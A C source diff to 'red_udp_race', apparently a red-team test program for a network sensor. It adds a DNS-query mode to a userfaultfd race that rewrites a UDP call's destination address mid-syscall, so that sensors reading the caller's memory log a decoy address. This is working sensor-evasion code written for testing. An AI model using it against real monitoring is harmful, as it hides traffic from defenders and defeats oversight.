@@ -1,12 +1,14 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 /*
- * red_udp_race sendto|sendmsg|sendmmsg ADDR PORT DECOY PORT2: one UDP datagram to ADDR:PORT
+ * red_udp_race sendto|sendmsg|sendmmsg|dns ADDR PORT DECOY PORT2 [NAME]: one UDP datagram to ADDR:PORT
  * (a socket of its own, bound there, receives it) with no connect, whose sockaddr is rewritten
  * to DECOY:PORT2 while the call runs. The kernel copies the address when the call begins,
  * then copies the payload; the payload lies on a page registered with userfaultfd, so that
  * copy stops on a fault, and the thread that serves the fault rewrites the sockaddr first and
  * supplies the page second. The datagram goes to ADDR:PORT; a sensor that reads the address
  * from the caller's memory when the call returns sees DECOY:PORT2. Deterministic, no timing.
+ * dns sends, with sendto, a DNS question for NAME (ADDR:PORT a resolver's port 53, DECOY:PORT2
+ * not a DNS port: a sensor misled there would not read the question at all).
  * Prints "sent N, received at ADDR:PORT: yes|no".
  */
 #include <linux/userfaultfd.h>
@@ -16,12 +18,15 @@
 #include <sys/mman.h>
 #include <sys/syscall.h>
 
+#include "dns_wire.h"
 #include "progs.h"
 
 static struct sockaddr_storage target, decoy;
 static char *page;
 static long page_size;
 static int uffd;
+static uint8_t payload[DNS_MAX_MSG] = "vigil";
+static size_t payload_len = 5;
 
 /* Serves the one fault: the sockaddr becomes DECOY, then the payload page is filled in. */
 static void *serve(void *arg)
@@ -40,7 +45,7 @@ static void *serve(void *arg)
 		   0);
 	if (src == MAP_FAILED)
 		prog_die("mmap: %s", strerror(errno));
-	memcpy(src, "vigil", 5);
+	memcpy(src, payload, payload_len);
 	copy = (struct uffdio_copy){ .dst = (unsigned long)page,
 				     .src = (unsigned long)src,
 				     .len = (unsigned long)page_size };
@@ -59,14 +64,21 @@ int main(int argc, char **argv)
 	struct timeval tv = { 2, 0 };
 	socklen_t len;
 	pthread_t th;
-	char buf[16];
+	char buf[DNS_MAX_MSG];
 	int fd, rx;
 	ssize_t n;
 
 	prog_name = "red_udp_race";
-	if (argc != 6 || (strcmp(argv[1], "sendto") && strcmp(argv[1], "sendmsg") &&
-			  strcmp(argv[1], "sendmmsg")))
-		prog_usage("sendto|sendmsg|sendmmsg ADDR PORT DECOY PORT2");
+	if (argc == 7 && !strcmp(argv[1], "dns")) {
+		int q = dns_build_query(payload, sizeof(payload), 0x5151, argv[6]);
+
+		if (q < 0)
+			prog_die("bad name %s", argv[6]);
+		payload_len = (size_t)q;
+	} else if (argc != 6 || (strcmp(argv[1], "sendto") && strcmp(argv[1], "sendmsg") &&
+				 strcmp(argv[1], "sendmmsg"))) {
+		prog_usage("sendto|sendmsg|sendmmsg|dns ADDR PORT DECOY PORT2 [NAME]");
+	}
 	len = prog_sockaddr(argv[2], argv[3], &target);
 	if (prog_sockaddr(argv[4], argv[5], &decoy) != len)
 		prog_die("ADDR and DECOY must be of one family");
@@ -91,12 +103,12 @@ int main(int argc, char **argv)
 		prog_die("socket: %s", strerror(errno));
 	if (pthread_create(&th, NULL, serve, NULL))
 		prog_die("pthread_create failed");
-	iov = (struct iovec){ .iov_base = page, .iov_len = 5 };
+	iov = (struct iovec){ .iov_base = page, .iov_len = payload_len };
 	m = (struct msghdr){
 		.msg_name = &target, .msg_namelen = len, .msg_iov = &iov, .msg_iovlen = 1
 	};
-	if (!strcmp(argv[1], "sendto")) {
-		n = sendto(fd, page, 5, 0, (struct sockaddr *)&target, len);
+	if (!strcmp(argv[1], "sendto") || !strcmp(argv[1], "dns")) {
+		n = sendto(fd, page, payload_len, 0, (struct sockaddr *)&target, len);
 	} else if (!strcmp(argv[1], "sendmsg")) {
 		n = sendmsg(fd, &m, 0);
 	} else {
@@ -107,6 +119,6 @@ int main(int argc, char **argv)
 		prog_die("%s: %s", argv[1], strerror(errno));
 	pthread_join(th, NULL);
 	printf("sent %zd, received at %s:%s: %s\n", n, argv[2], argv[3],
-	       recv(rx, buf, sizeof(buf), 0) == 5 ? "yes" : "no");
+	       recv(rx, buf, sizeof(buf), 0) == (ssize_t)payload_len ? "yes" : "no");
 	return 0;
 }
